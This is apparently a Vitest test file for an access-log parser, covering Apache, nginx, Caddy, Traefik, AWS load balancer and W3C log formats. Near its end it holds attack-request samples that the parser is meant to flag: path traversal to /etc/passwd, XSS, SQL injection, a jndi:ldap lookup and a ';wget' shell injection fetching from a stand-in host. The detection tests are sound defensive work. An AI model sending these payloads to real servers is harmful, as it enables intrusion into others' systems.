import { describe, expect, it } from 'vitest';
import { LogParser } from '../../../src/import/log-parser.ts';

const AT = '[17/May/2015:10:05:03 +0000]';
const AT_S = Date.UTC(2015, 4, 17, 10, 5, 3) / 1000;

/** What a parser says about the last of some lines: the same, whether it has looked at them before or not. */
function read(...lines: readonly (string | Buffer)[]) {
  const unprepared = readBy(new LogParser(), lines);
  const parser = new LogParser();
  parser.begin((look) => {
    for (const bytes of [common('GET / HTTP/1.1'), ...lines].map(bytesOf)) look(bytes, 0, bytes.length);
  });
  const prepared = readBy(parser, lines);
  if (prepared.outcome === 'request') expect(prepared).toEqual(unprepared);
  else expect(prepared.outcome).toBe(unprepared.outcome);
  return prepared;
}

const bytesOf = (line: string | Buffer) => (typeof line === 'string' ? Buffer.from(line, 'utf8') : line);

function readBy(parser: LogParser, lines: readonly (string | Buffer)[]) {
  let outcome = '';
  for (const bytes of lines.map(bytesOf)) outcome = parser.read(bytes, 0, bytes.length);
  const { record } = parser;
  return {
    outcome,
    client: record.bytes.toString('utf8', record.clientStart, record.clientEnd),
    path: record.bytes.toString('utf8', record.pathStart, record.pathEnd),
    target: record.bytes.toString('utf8', record.pathStart, record.targetEnd),
    method: record.method,
    status: record.status,
    timeS: record.timeS,
    offsetS: record.offsetS,
  };
}

const common = (request: string, rest = '200 5') => `1.2.3.4 - - ${AT} "${request}" ${rest}`;

describe('a request in a log', () => {
  it.each([
    ['common log format', common('GET /a HTTP/1.1'), { client: '1.2.3.4', path: '/a', method: 'GET', status: 200 }],
    ['no size', common('GET /a HTTP/1.1', '304 -'), { status: 304 }],
    ['no status', common('GET /a HTTP/1.1', '- -'), { status: 0 }],
    ['combined', `${common('GET /a?x=1 HTTP/1.1')} "http://r/" "Mozilla/5.0"`, { path: '/a', target: '/a?x=1' }],
    ['combined with more columns', `${common('GET /a HTTP/1.1')} "-" "agent" 0.123 "upstream" -`, { path: '/a' }],
    ['quotes and backslashes in the agent', `${common('GET /a HTTP/1.1')} "-" "a \\"b\\" \\\\"`, { path: '/a' }],
    ['a quote in the target', common(String.raw`GET /a\"b HTTP/1.1`), { path: String.raw`/a\"b` }],
    ['double blanks', `1.2.3.4 - -  ${AT}  "GET  /a  HTTP/1.1"  200  5`, { path: '/a', status: 200 }],
    ['junk at the end', `${common('GET /a HTTP/1.1')} ~~~ "`, { path: '/a' }],
    ['no protocol', common('GET /a'), { path: '/a' }],
    ['raw blanks in the target', common('GET /a b c HTTP/1.1'), { path: '/a b c' }],
    ['absolute form', common('GET http://example.org/a?b HTTP/1.1'), { path: '/a', target: '/a?b' }],
    ['a small method', common('get /a HTTP/1.1'), { method: 'GET' }],
    ['OPTIONS *', common('OPTIONS * HTTP/1.0'), { method: 'OPTIONS', path: '*' }],
    ['bad percent escapes', common('GET /100%zz%2 HTTP/1.1'), { path: '/100%zz%2' }],
    ['virtual host first', `www.example.org:80 1.2.3.4 - - ${AT} "GET /a HTTP/1.1" 200 5`, { client: '1.2.3.4' }],
    ['virtual host and user', `shop.example 10.0.0.7 - ann ${AT} "GET /a HTTP/1.1" 200 5`, { client: '10.0.0.7' }],
    ['user is an e-mail address', `1.2.3.4 - ann@example.org ${AT} "GET /a HTTP/1.1" 200 5`, { client: '1.2.3.4' }],
    ['user with blanks and brackets', `1.2.3.4 - [an old] user ${AT} "GET /a HTTP/1.1" 200 5`, { client: '1.2.3.4' }],
    ['a list of addresses', `9.8.7.6, 10.0.0.1 - - ${AT} "GET /a HTTP/1.1" 200 5`, { client: '9.8.7.6' }],
    ['IPv6 with a zone', `fe80::1%eth0 - - ${AT} "GET /a HTTP/1.1" 200 5`, { client: 'fe80::1%eth0' }],
    ['a host name', `host-7.example.org - - ${AT} "GET /a HTTP/1.1" 200 5`, { client: 'host-7.example.org' }],
    [
      'text that is not UTF-8',
      Buffer.concat([Buffer.from(common('GET /').replace('GET /', 'GET /')), Buffer.from([0xff])]),
      { path: '/' },
    ],
    ['a byte order mark', `\ufeff${common('GET /a HTTP/1.1')}`, { client: '1.2.3.4', path: '/a' }],
    [
      'nginx as JSON',
      '{"time_iso8601":"2015-05-17T10:05:03+00:00","remote_addr":"1.2.3.4","request":"GET /a?q=1 HTTP/1.1","status":"200"}',
      { client: '1.2.3.4', path: '/a', target: '/a?q=1' },
    ],
    [
      'JSON with the common time',
      '{"time_local":"17/May/2015:10:05:03 +0000","remote_addr":"1.2.3.4","request_method":"POST","request_uri":"/a","status":201}',
      { method: 'POST', status: 201 },
    ],
    [
      'JSON with numbers',
      '{"msec":1431857103.5,"client":"1.2.3.4","method":"GET","uri":"/a","args":"b=c","status":200}',
      { target: '/a?b=c' },
    ],
    [
      'Caddy',
      '{"level":"info","ts":1431857103.25,"request":{"remote_ip":"1.2.3.4","client_ip":"1.2.3.4","proto":"HTTP/2.0","method":"GET","host":"x","uri":"/a","headers":{"User-Agent":["m"]}},"status":200}',
      { client: '1.2.3.4', path: '/a' },
    ],
    [
      'Traefik',
      '{"ClientAddr":"1.2.3.4:55","ClientHost":"1.2.3.4","DownstreamStatus":200,"RequestMethod":"GET","RequestPath":"/a?b","StartUTC":"2015-05-17T10:05:03.123456789Z","time":"2015-05-17T10:05:04Z"}',
      { path: '/a', status: 200 },
    ],
    [
      'AWS classic load balancer',
      '2015-05-17T10:05:03.943958Z my-elb 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://www.example.com:80/a HTTP/1.1" "curl/7.38.0" - -',
      { client: '192.168.131.39', path: '/a' },
    ],
    [
      'AWS application load balancer',
      'h2 2015-05-17T10:05:03.186641Z app/my/50dc 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 404 404 34 366 "GET https://www.example.com:443/a?p=1 HTTP/2.0" "curl/7.46.0" ECDHE TLSv1.2 arn:aws "Root=1" "-" "-" 0',
      { status: 404, target: '/a?p=1' },
    ],
  ] as const)('%s', (_name, line, expected) => {
    expect(read(line)).toMatchObject({ outcome: 'request', timeS: AT_S, ...expected });
  });

  it('is the same in any time zone', () => {
    expect(read(`1.2.3.4 - - [17/May/2015:15:35:03 +0530] "GET /a HTTP/1.1" 200 5`)).toMatchObject({
      timeS: AT_S,
      offsetS: 19_800,
    });
    expect(read(`1.2.3.4 - - [17/May/2015:06:05:03 -0400] "GET /a HTTP/1.1" 200 5`)).toMatchObject({
      timeS: AT_S,
      offsetS: -14_400,
    });
  });

  it('may fall on a leap day and into a leap second', () => {
    expect(read('1.2.3.4 - - [29/Feb/2016:23:59:60 +0000] "GET / HTTP/1.1" 200 5').outcome).toBe('request');
  });
});

describe('W3C extended logs', () => {
  const head = '#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status';
  it.each([
    [
      'blanks',
      [head, '2015-05-17 10:05:03 1.2.3.4 GET /a x=1 200'],
      { path: '/a', target: '/a?x=1', client: '1.2.3.4' },
    ],
    ['+ for a blank', [head, '2015-05-17 10:05:03 1.2.3.4 GET /a+b - 200'], { path: '/a+b' }],
    [
      'tabs',
      [
        head.replaceAll(' ', '\t').replace('#Fields:\t', '#Fields:\t'),
        '2015-05-17\t10:05:03\t1.2.3.4\tGET\t/a\t-\t200',
      ],
      { path: '/a' },
    ],
    [
      'a date of its own line',
      ['#Date: 2015-05-17 10:00:00', '#Fields: time c-ip cs-method cs-uri sc-status', '10:05:03 1.2.3.4 GET /a 200'],
      { path: '/a' },
    ],
    [
      'fields that change in mid-file',
      [
        head,
        '2015-05-17 10:05:00 1.2.3.4 GET /old - 200',
        '#Fields: date time cs-method cs-uri-stem sc-status c-ip',
        '2015-05-17 10:05:03 POST /new 201 5.6.7.8',
      ],
      { path: '/new', method: 'POST', client: '5.6.7.8' },
    ],
    ['fields that are repeated', [head, head, '2015-05-17 10:05:03 1.2.3.4 GET /a - 200'], { path: '/a' }],
    [
      'quoted values',
      [`${head} cs(User-Agent)`, '2015-05-17 10:05:03 1.2.3.4 GET /a - 200 "a ""b"" c"'],
      { path: '/a' },
    ],
    ['another format in between', [head, common('GET /b HTTP/1.1')], { path: '/b' }],
  ] as const)('%s', (_name, lines, expected) => {
    expect(read(...lines)).toMatchObject({ outcome: 'request', timeS: AT_S, ...expected });
  });

  it.each([
    ['a cut line', [head, '2015-05-17 10:05:03 1.2.3.4'], 'unfinished'],
    ['no such day', [head, '2015-02-31 10:05:03 1.2.3.4 GET /a - 200'], 'time'],
    ['no path', [head, '2015-05-17 10:05:03 1.2.3.4 - - - 400'], 'excluded-empty'],
    ['a word for the status', [head, '2015-05-17 10:05:03 1.2.3.4 GET /a - abc'], 'status'],
  ] as const)('%s is %s', (_name, lines, outcome) => {
    expect(read(...lines).outcome).toBe(outcome);
  });
});

describe('a line that is no request', () => {
  it.each([
    ['an all-dash line', '- - - - - -', 'format'],
    ['prose', 'Server listening on port 80', 'format'],
    ['the 31st of February', `1.2.3.4 - - [31/Feb/2015:10:05:03 +0000] "GET /a HTTP/1.1" 200 5`, 'time'],
    ['hour 25', `1.2.3.4 - - [17/May/2015:25:05:03 +0000] "GET /a HTTP/1.1" 200 5`, 'time'],
    ['a month of no language', `1.2.3.4 - - [17/Mxy/2015:10:05:03 +0000] "GET /a HTTP/1.1" 200 5`, 'time'],
    ['cut within the time', '1.2.3.4 - - [17/May/2015:10:0', 'unfinished'],
    ['cut within the request', `1.2.3.4 - - ${AT} "GET /a`, 'unfinished'],
    ['cut before the status', `1.2.3.4 - - ${AT} "GET /a HTTP/1.1"`, 'unfinished'],
    ['a half record', `/a HTTP/1.1" 200 5`, 'format'],
    ['no status', common('GET /a HTTP/1.1', 'abc 5'), 'status'],
    ['one word as the request', common('GARBAGE', '200 5'), 'line'],
    ['a relative target', common('GET a/b HTTP/1.1'), 'line'],
    ['raw bytes as the request', common('\u0000\u0001\u0002x', '400 0'), 'binary'],
    ['raw bytes', '\u0000\u0001\u0002\u0003', 'binary'],
    ['a line of nginx’s error log', '2015/05/17 10:05:03 [error] 7#7: *1 open() failed', 'error'],
    ['a line of Apache’s error log', '[Sun May 17 10:05:03.123456 2015] [core:error] [pid 1] x', 'error'],
    ['a cut JSON line', '{"time_iso8601":"2015-05-17T10:05:03+00:00","remote', 'unfinished'],
    ['JSON of something else', '{"level":"info","msg":"started","ts":1431857103}', 'format'],
    ['JSON with no such time', '{"time":"yesterday","method":"GET","uri":"/a","status":200}', 'time'],
    ['a request-less 408', common('-', '408 0'), 'excluded-empty'],
    ['empty quotes with 400', common('', '400 0'), 'excluded-empty'],
    ['empty quotes with 200', common('', '200 0'), 'line'],
    [
      'a load balancer’s broken request',
      '2015-05-17T10:05:03.9Z e 1.2.3.4:5 - -1 -1 -1 408 0 0 0 "- - - " "-" - -',
      'excluded-empty',
    ],
    ['a TLS hello, escaped', common(String.raw`\x16\x03\x01\x02\x00`, '400 0'), 'excluded-handshake'],
    ['a TLS hello, raw', common('\u0016\u0003\u0001\u0002\u0000', '400 0'), 'excluded-handshake'],
    ['CONNECT', common('CONNECT mail.example.org:25 HTTP/1.0', '405 0'), 'excluded-connect'],
    ['an unknown method', common('PROPFIND / HTTP/1.1'), 'excluded-method'],
    ['climbing out of the root', common('GET /../../etc/passwd HTTP/1.1'), 'excluded-attack'],
    ['climbing, escaped twice', common('GET /%252e%252e%252fetc%252fpasswd HTTP/1.1'), 'excluded-attack'],
    ['a script', common('GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1'), 'excluded-attack'],
    ['SQL', common("GET /?id=1'%20or%20'1'='1 HTTP/1.1"), 'excluded-attack'],
    ['SQL with plus signs', common('GET /?id=1+union+all+select+1,2 HTTP/1.1'), 'excluded-attack'],
    ['jndi', common('GET /?x=${jndi:ldap://h/a} HTTP/1.1'), 'excluded-attack'],
    ['a shell', common('GET /cgi?x=;wget+http://h/a HTTP/1.1'), 'excluded-attack'],
    ['a NUL', common('GET /a%00.php HTTP/1.1'), 'excluded-attack'],
    ['a comment', '# rotated', 'skipped'],
    ['blanks', '   \t ', 'skipped'],
  ] as const)('%s', (_name, line, outcome) => {
    expect(read(line).outcome).toBe(outcome);
  });

  it.each([
    'GET /search?q=union+station+select+seats HTTP/1.1',
    "GET /search?q=it's+a+cat HTTP/1.1",
    'GET /wiki/Rock_%26_Roll_(song) HTTP/1.1',
    'GET /a..b/c HTTP/1.1',
    'GET /price?max=10%25&x=a%20or%20b HTTP/1.1',
  ])('but %s is what a visitor asks for', (request) => {
    expect(read(common(request)).outcome).toBe('request');
  });
});
